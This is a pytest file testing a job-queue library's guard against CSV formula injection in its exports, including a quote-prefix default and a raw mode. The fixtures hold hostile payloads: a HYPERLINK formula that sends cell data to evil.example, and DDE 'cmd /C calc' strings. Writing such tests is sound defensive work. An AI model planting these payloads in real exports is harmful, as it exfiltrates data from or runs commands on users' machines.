"""CSV export guards cells a spreadsheet would run as formulas, unless asked for exact cells (issue 25).

A failure message, unique key, owner or job name starting with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return was written raw, and a spreadsheet opening the file ran it. Now
such a cell gets a leading ``'`` (the OWASP CSV-injection guidance) by default; plain
numbers (a payload of ``-5``) are left as they are; ``csv_raw=True`` writes every cell as
stored. JSON Lines is always exact.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from typing import Any

import pytest

from monque_engine import Monque
from monque_engine.export import FIELDS, FORMULA_STARTS, export_jobs, spreadsheet_cell

HOSTILE = {
    "failReason": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "uniqueKey": "@SUM(1+1)*cmd|' /C calc'!A0",
    "claimedBy": "+1+cmd|' /C calc'!A0",
}


async def _rows(m: Monque, **options: Any) -> list[dict[str, str]]:
    out = io.StringIO()
    await export_jobs(m, out, None, "csv", **options)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_gets_a_quote_and_plain_numbers_do_not(start: str) -> None:
    assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"
    for number in ("-5", "-0.25", "-1.5e-07", "5", "0"):
        assert spreadsheet_cell(number) == number
    for text in ("-", "-5 apples", "-0x10", "-\u0661", "--5", "-5\n=1"):  # not plain numbers (nor ASCII digits)
        assert spreadsheet_cell(text) == "'" + text
    for text in ("", "hello", "'=already quoted", " =1", '{"a":"=1"}'):
        assert spreadsheet_cell(text) == text


async def test_csv_by_default_prefixes_formula_cells_and_leaves_numbers(
    monque: Callable[..., Any], raw: Callable[[Monque], Any]
) -> None:
    m = await monque()
    hostile = await m.enqueue("-2+3+cmd|'/Ccalc'!A0", {"to": "=1+1"}, unique_key=HOSTILE["uniqueKey"])
    await raw(m).set(hostile.id, **{k: v for k, v in HOSTILE.items() if k != "uniqueKey"})
    negative = await m.enqueue("numbers", -5)
    await raw(m).set(negative.id, failReason="-5", failCount=2)
    controls = await m.enqueue("controls", {})
    await raw(m).set(controls.id, failReason="\t=1+1", claimedBy="\r=1+1")
    rows = {row["_id"]: row for row in await _rows(m)}
    row = rows[hostile.id]
    assert row["name"] == "'-2+3+cmd|'/Ccalc'!A0"
    for field, value in HOSTILE.items():
        assert row[field] == "'" + value, field
    assert json.loads(row["data"]) == {"to": "=1+1"}  # JSON text starts with {, never a formula
    assert rows[negative.id]["data"] == "-5" and rows[negative.id]["failReason"] == "-5"
    assert rows[negative.id]["failCount"] == "2"
    assert rows[controls.id]["failReason"] == "'\t=1+1" and rows[controls.id]["claimedBy"] == "'\r=1+1"
    # Nothing a spreadsheet would run is left anywhere in the file.
    for each in rows.values():
        for field in FIELDS:
            cell = each[field]
            assert not cell.startswith(FORMULA_STARTS) or cell.lstrip("-").replace(".", "").isdigit(), (field, cell)


async def test_csv_raw_writes_every_cell_exactly_and_json_lines_is_always_exact(
    monque: Callable[..., Any], raw: Callable[[Monque], Any]
) -> None:
    m = await monque()
    hostile = await m.enqueue("=cmd", {"to": "=1+1"}, unique_key=HOSTILE["uniqueKey"])
    await raw(m).set(hostile.id, **{k: v for k, v in HOSTILE.items() if k != "uniqueKey"})
    row = (await _rows(m, csv_raw=True))[0]
    assert row["name"] == "=cmd"
    for field, value in HOSTILE.items():
        assert row[field] == value, field
    out = io.StringIO()
    await export_jobs(m, out, None, "jsonl")
    doc = json.loads(out.getvalue())
    assert doc["name"] == "=cmd" and doc["failReason"] == HOSTILE["failReason"]


async def test_an_instant_no_datetime_holds_is_json_in_a_csv_cell(
    monque: Callable[..., Any], raw: Callable[[Monque], Any]
) -> None:
    """It was Python's repr, ``{'$date': …}``, which no JSON reader takes."""
    m = await monque()
    job = await m.enqueue("far", {})
    far = 8_640_000_000_000_000  # new Date(8.64e15): the year 275760
    await raw(m).set(job.id, nextRunAt=far)
    row = (await _rows(m))[0]
    assert json.loads(row["nextRunAt"]) == {"$date": {"$numberLong": str(far)}}


@pytest.mark.parametrize("csv_raw", [False, True])
async def test_a_line_break_inside_a_cell_is_quoted_so_no_row_starts_there(
    monque: Callable[..., Any], raw: Callable[[Monque], Any], csv_raw: bool
) -> None:
    """A bare carriage return was written unquoted (``csv`` quotes only its terminator's
    characters): readers started a new row there, its first cell ``=1+1``."""
    m = await monque()
    job = await m.enqueue("breaks", {})
    await raw(m).set(job.id, failReason="fine\r=1+1", claimedBy="w\n=2+2")
    out = io.StringIO(newline="")
    await export_jobs(m, out, None, "csv", csv_raw=csv_raw)
    text = out.getvalue()
    assert '"fine\r=1+1"' in text and '"w\n=2+2"' in text and text.endswith("\n") and not text.endswith("\r\n")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 1
    assert rows[0]["failReason"] == "fine\r=1+1" and rows[0]["claimedBy"] == "w\n=2+2"
